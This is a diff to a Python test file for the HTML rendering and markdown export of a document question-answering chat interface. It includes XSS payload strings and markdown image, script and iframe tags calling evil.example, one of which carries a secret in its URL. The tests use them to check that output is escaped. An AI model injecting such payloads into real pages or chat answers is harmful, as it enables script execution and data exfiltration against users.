@@ -2,11 +2,14 @@
 
 from dataclasses import replace
 from datetime import timedelta
+from html.parser import HTMLParser
 
 import pytest
+from markdown_it import MarkdownIt
 
 from core.domain.documents import Chunk
 from core.domain.events import (
+    AnswerDelta,
     AnswerReady,
     BudgetSet,
     ConsentAsked,
@@ -15,6 +18,7 @@ from core.domain.events import (
     GraphTouched,
     MemoriesRecalled,
     MemorySaved,
+    ModelAsked,
     ModelCalled,
     NodeFinished,
     NodeStarted,
@@ -26,20 +30,21 @@ from core.domain.events import (
     Scored,
     ToolCalled,
 )
-from core.domain.passages import Citation, Passage
-from core.domain.runs import RunStatus, Usage
+from core.domain.passages import Citation, Passage, TableRow
+from core.domain.runs import Part, Run, RunStatus, Usage
 from core.runs.view import RunView, fold
 from pages.components.chat.export import chat_markdown, turn_markdown
 from pages.components.run.citation_html import Evidence, panels_html, sources_html
-from pages.components.run.run_html import run_parts
+from pages.components.run.run_html import outcome_chip, run_parts
 from pages.components.run.run_words import engine_words, outcome_words, sentence
 from pages.components.run.turn_actions import Offer, actions_part
-from pages.components.run.turn_html import turn_parts
+from pages.components.run.turn_html import answer_part, state_part, turn_parts
 from pages.components.shell.language import use_language
 from pages.components.shell.times import ago, duration
 from tests.pages.marlow import NOW
 
 pytestmark = pytest.mark.usefixtures("opened")
+RUN = Run("r", "t", "b", "Why?", "adaptive", "built-in", RunStatus.DONE, NOW)
 EVIL = "<script>alert('x')</script>\"'>"
 CITED = Citation(1, EVIL, EVIL, EVIL, 0, ((0, (100, 100, 500, 200)), (1, (0, 0, 2000, -5))), EVIL, 0.7)
 PASSAGE = Scored(EVIL, EVIL, 3, EVIL, 0.42, ("lexical", EVIL), EVIL)
@@ -62,7 +67,7 @@ def html_of_all(view: RunView) -> str:
     parts = [
         *turn_parts(view, Evidence((EVIL,))),
         *run_parts(view),
-        ("actions", actions_part(view, Offer(False, (EVIL,)))),
+        ("actions", actions_part(RUN, view, Offer(False, (EVIL,)))),
     ]
     return "\n".join(html for _, html in parts)
 
@@ -237,8 +242,14 @@ def test_sources_are_listed_by_number() -> None:
 def test_an_answer_is_exported_with_its_sources() -> None:
     cited = replace(CITED, document_name="handbook.pdf", text="Quoted\nwords.")
     view = fold([RunStarted("Why?", "adaptive", "x"), AnswerReady("Because [1].", (cited,))])
-    assert turn_markdown(view) == "Because [1].\n\n**Sources**\n\n1. handbook.pdf, page 1: “Quoted words.”\n"
-    assert chat_markdown("A\nchat", [view]).startswith("# A chat\n\n## Why?\n\nBecause [1].")
+    ended = replace(view, status=RunStatus.DONE, outcome="answered")
+    facts = f"*{NOW:%Y-%m-%d %H:%M} UTC · Adaptive · answered*"
+    assert turn_markdown(RUN, ended) == (
+        f"{facts}\n\nBecause [1].\n\n**Sources**\n\n1. handbook.pdf, page 1: “Quoted words.”\n"
+    )
+    assert chat_markdown("A\nchat", [(RUN, ended)]).startswith(f"# A chat\n\n## Why?\n\n{facts}\n\nBecause [1].")
+    stopped = replace(view, status=RunStatus.STOPPED)
+    assert "· stopped*" in turn_markdown(RUN, stopped)
 
 
 @pytest.mark.parametrize(
@@ -259,3 +270,116 @@ def test_moments_are_said_as_people_do(seconds: int, expected: str) -> None:
 
 def test_an_old_moment_is_a_date() -> None:
     assert ago(NOW - timedelta(days=30), NOW) == "2026-10-21"
+
+
+@pytest.mark.parametrize(
+    ("language", "words", "limit"),
+    [
+        ("en", "has stopped in the middle", "3 min"),
+        ("zh-hans", "在回答中途停住了", "3 分钟"),
+        ("zh-hant", "在回答中途停住了", "3 分鐘"),
+    ],
+)
+def test_a_model_that_stops_in_the_middle_of_an_answer_is_announced(language: str, words: str, limit: str) -> None:
+    """Drawn with every piece and shown by the style sheet once no further piece has come for some seconds."""
+    begun = fold(
+        [
+            RunStarted("Why?", "adaptive", "slow-model"),
+            NodeStarted("generate", 1),
+            ModelAsked("generate", 180.0),
+            AnswerDelta("Because the"),
+        ]
+    )
+    with use_language(language):
+        answer = dict(turn_parts(begun, Evidence()))["answer"]
+        ended = dict(turn_parts(replace(begun, status=RunStatus.STOPPED), Evidence()))["answer"]
+    assert '<p class="gt-silent" role="status">' in answer
+    assert words in answer
+    assert "slow-model" in answer
+    assert limit in answer
+    assert "gt-silent" not in ended
+
+
+HOSTILE = r"""**Bold** 3 < 4 and 5<6
+\<img src=https://evil.example/d> \\<img src=x> \![z](https://evil.example/z) \\![z](https://evil.example/z)
+![x](https://evil.example/?q=secret) ![y][r] <img src=https://evil.example/a onerror=alert(1)>
+<script src="https://evil.example/s.js"></script><iframe src=https://evil.example></iframe>
+<style>@import url(//e)</style>
+```
+![in code](https://evil.example/c) <b>
+``` <img src=https://evil.example/b>
+    <object data=https://evil.example></object>
+
+[r]: https://evil.example/r
+"""
+
+
+class _Loading(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+
+
+def test_a_saved_conversation_loads_and_runs_nothing_in_a_viewer_that_allows_html() -> None:
+    citation = Citation(1, "c1", "d1", HOSTILE, 0, (), HOSTILE, 0.5, HOSTILE)
+    view = RunView(question=HOSTILE, answer=HOSTILE, citations=(citation,))
+    saved = chat_markdown(HOSTILE, [(RUN, view)])
+    page = _Loading()
+    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(saved))
+    assert set(page.tags) <= {"h1", "h2", "p", "strong", "em", "ol", "ul", "li", "pre", "code", "a", "br", "hr"}
+    assert "**Bold** 3 < 4 and 5<6" in saved
+
+
+@pytest.mark.parametrize(
+    ("answered", "looks", "words"),
+    [((True, True), "is-good", "Answered from your documents"), ((True, False), "is-weak", "1 of 2 questions")],
+)
+def test_an_answer_to_one_of_two_questions_is_told_as_such(answered: tuple[bool, bool], looks: str, words: str) -> None:
+    parts = tuple(Part(question, told) for question, told in zip(("Who?", "When?"), answered, strict=True))
+    view = RunView(question="q", answer="a [1]", citations=(CITED,), parts=parts)
+    shown = state_part(replace(view, status=RunStatus.DONE, outcome="answered"))
+    assert looks in shown
+    assert words in shown
+
+
+def test_a_quoted_row_is_a_small_table_with_the_cell_marked_in_answer_source_and_export() -> None:
+    row = TableRow(("Buoy", EVIL), ("L4", "88"), 1)
+    line = f"Buoy: L4; {EVIL}: 88"
+    citation = replace(CITED, row=replace(row, columns=("Buoy", "Depth")))
+    answer = "**88 m**: “Buoy: L4; Depth: 88” [1]"
+    view = RunView(question="q", answer=answer, citations=(citation,), status=RunStatus.DONE, outcome="answered")
+    assert "<td><strong>88</strong></td>" in answer_part(view)
+    assert "has-rows" in answer_part(view)
+    assert "| L4 | **88** |" in turn_markdown(RUN, view)
+    hostile = replace(view, answer=f"“{line}” [1]", citations=(replace(CITED, row=row),))
+    panel = dict(turn_parts(hostile, Evidence()))["panels"]
+    assert "<td><mark>88</mark></td>" in panel
+    assert "<script" not in panel + answer_part(hostile)
+
+
+def test_the_ways_to_read_a_question_are_buttons_that_ask_it() -> None:
+    view = RunView(question="q", answer="Which?\n\n- One?\n- Two?", choices=("One?", EVIL), outcome="asked_back")
+    parts = dict(turn_parts(replace(view, status=RunStatus.DONE), Evidence()))
+    assert parts["choices"].count('data-event="ask"') == 2
+    assert 'data-value="One?"' in parts["choices"]
+    assert "<script" not in parts["choices"]
+    assert "Two?" not in parts["answer"]
+    assert dict(turn_parts(view, Evidence()))["choices"] == ""
+
+
+@pytest.mark.parametrize(
+    ("outcome", "looks"), [("answered", "is-good"), ("closest", "is-weak"), ("not_found", "is-bad")]
+)
+def test_an_outcome_has_the_same_colour_beside_the_answer_and_at_the_run(outcome: str, looks: str) -> None:
+    view = RunView(question="q", answer="a [1]", citations=(CITED,), status=RunStatus.DONE, outcome=outcome)
+    assert f'class="gt-state {looks}"' in state_part(view)
+    assert f'class="gt-chip {looks}"' in outcome_chip(view)
+
+
+def test_durations_are_said_in_the_readers_language() -> None:
+    with use_language("zh-hans"):
+        said = [duration(seconds) for seconds in (0.012, 0.35, 4.2, 125, 180)]
+    assert said == ["12 毫秒", "0.35 秒", "4.2 秒", "2 分 5 秒", "3 分钟"]
